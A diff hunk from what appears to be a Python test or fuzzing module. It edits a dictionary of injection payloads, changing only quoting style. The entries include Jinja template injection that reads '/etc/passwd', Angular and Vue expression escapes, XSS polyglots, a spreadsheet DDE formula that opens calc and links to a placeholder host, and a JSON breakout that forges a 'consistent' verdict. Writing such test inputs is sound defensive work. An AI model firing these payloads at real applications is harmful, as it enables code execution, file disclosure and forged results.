@@ -136,7 +136,7 @@ TEMPLATES = {
     "jinja": "{{ 7*7 }}{% for x in y %}{{ cycler.__init__.__globals__ }}{# x #}",
     "jinja that reads a file": "{% include '/etc/passwd' %}{{ config }}{% endmacro %}{% endraw %}",
     "angular": f"{{{{constructor.constructor('{RUN}')()}}}}",
-    "vue": f"<div v-html=\"'<img src=x onerror={RUN}>'\" @click=\"{RUN}\">{{{{ $emit.constructor`{RUN}`() }}}}</div>",
+    "vue": f'<div v-html="\'<img src=x onerror={RUN}>\'" @click="{RUN}">{{{{ $emit.constructor`{RUN}`() }}}}</div>',
     "leaflet": "{url}{s}{z}{x}{y}{id}",
     "template literal": f"${{{RUN}}}`${{{RUN}}}`",
     "format string": "%s%n%x {0.__class__} {n} {all} {time}",
@@ -145,7 +145,7 @@ TEMPLATES = {
     "escape before a quote": f"\\';{RUN};//\\\\",
     "end of the JSON": f'"}}]}};{RUN};//',
     "JSON that adds keys": '","says":"forged","checks":[{"verdict":"consistent"}],"x":"',
-    "formula": f"=HYPERLINK(\"{AWAY}\",\"x\")|'/C calc'!A0",
+    "formula": f'=HYPERLINK("{AWAY}","x")|\'/C calc\'!A0',
     "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
     "second polyglot": f"'\"--></style></script></title></textarea></noscript></template><svg/onload={RUN}><img src=x onerror={RUN}>{{{{7*7}}}}${{7*7}}",
 }
